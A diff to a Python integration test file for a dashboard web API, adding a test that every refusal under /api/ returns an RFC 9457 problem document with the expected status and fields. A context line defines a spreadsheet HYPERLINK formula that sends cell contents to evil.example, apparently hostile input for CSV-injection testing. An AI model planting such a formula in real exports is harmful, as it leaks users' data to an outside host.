@@ -8,13 +8,17 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+from datetime import UTC, datetime
 
+import httpx
 import pytest
 from test_schemathesis import fuzz
 
-from dashboard_harness import dashboard_settings, make_event, running_dashboard
+from dashboard_harness import FakeClock, dashboard_settings, make_event, running_dashboard
+from teamnl_shared.problem import PROBLEM_JSON
 
 pytestmark = pytest.mark.integration
+NOW = datetime(2019, 7, 1, 12, tzinfo=UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
 
@@ -113,3 +117,70 @@ async def test_the_web_pages_answer_hostile_input_with_a_4xx_never_a_5xx(
     server_errors = {request: status for request, status in answers.items() if status >= 500}
     assert not server_errors, server_errors
     assert len(answers) > 300
+
+
+async def test_every_refusal_of_the_api_is_a_problem_and_the_pages_keep_theirs(
+    database_url: str, kafka_bootstrap: str
+) -> None:
+    """Under /api/ every 4xx is an RFC 9457 problem (as the ingestion APIs' are): FastAPI's
+    validation errors, the routes' 404 and 409, the 401, a role's 403, the CSRF middleware's
+    403 and 413, an unknown path or method. They were ``{"detail": ...}`` in three shapes."""
+    settings = dashboard_settings(database_url, kafka_bootstrap)
+    async with running_dashboard(settings, FakeClock(NOW)) as dash:
+        await dash.publish(
+            make_event(
+                "nl.teamnl.werkplaats.project.onboarded.v1",
+                project_id="w-ng",
+                country="NG",
+                time=NOW,
+            )
+        )
+        [finding] = await dash.wait_findings("isolated-project", "open")
+        path = f"/api/v1/findings/{finding['id']}"
+        assert (await dash.secretariat.post(f"{path}/resolve")).status_code == 200
+        without_token = httpx.AsyncClient(
+            base_url=dash.base_url, cookies=dash.secretariat.cookies, timeout=30
+        )
+        refusals = {
+            "anonymous": (401, await dash.anonymous.get("/api/v1/overview")),
+            "member's role": (403, await dash.member.post(f"{path}/acknowledge")),
+            "no CSRF token": (403, await without_token.post(f"{path}/acknowledge")),
+            "unknown market": (404, await dash.member.get("/api/v1/markets/QQ")),
+            "unknown finding": (404, await dash.member.get("/api/v1/findings/999999")),
+            "unknown path": (404, await dash.member.get("/api/v1/nothing-here")),
+            "unknown method": (405, await dash.secretariat.delete("/api/v1/overview")),
+            "state refuses": (409, await dash.secretariat.post(f"{path}/acknowledge")),
+            "body too large": (
+                413,
+                await dash.secretariat.post(f"{path}/acknowledge", json={"note": "n" * 100_000}),
+            ),
+            "note too long": (
+                422,
+                await dash.secretariat.post(f"{path}/acknowledge", json={"note": "n" * 2001}),
+            ),
+            "since unreadable": (422, await dash.member.get("/api/v1/coherence/score?since=x")),
+            "period unreadable": (422, await dash.member.get("/api/v1/overview?period=1999")),
+        }
+        page_404 = await dash.member.get("/markets/QQ")
+        page_anonymous = await dash.anonymous.get("/", follow_redirects=False)
+        await without_token.aclose()
+    wrong = {}
+    for name, (status, response) in refusals.items():
+        problem = response.json()
+        if (
+            response.status_code != status
+            or response.headers["content-type"] != PROBLEM_JSON
+            or problem.get("status") != status
+            or not problem.get("type", "").startswith("urn:teamnl:problem:")
+            or not (problem.get("title") and problem.get("detail"))
+            or problem.get("instance") != response.request.url.path
+        ):
+            wrong[name] = (response.status_code, response.headers["content-type"], problem)
+    assert wrong == {}
+    fields = {name: [e["field"] for e in refusals[name][1].json()["errors"]] for name in refusals}
+    assert fields["no CSRF token"] == ["header/x-csrf-token"]
+    assert fields["note too long"] == ["body/note"]
+    assert fields["since unreadable"] == ["query/since"]
+    assert fields["period unreadable"] == ["query/period"]
+    assert page_404.status_code == 404 and page_404.headers["content-type"] != PROBLEM_JSON
+    assert page_anonymous.status_code == 303
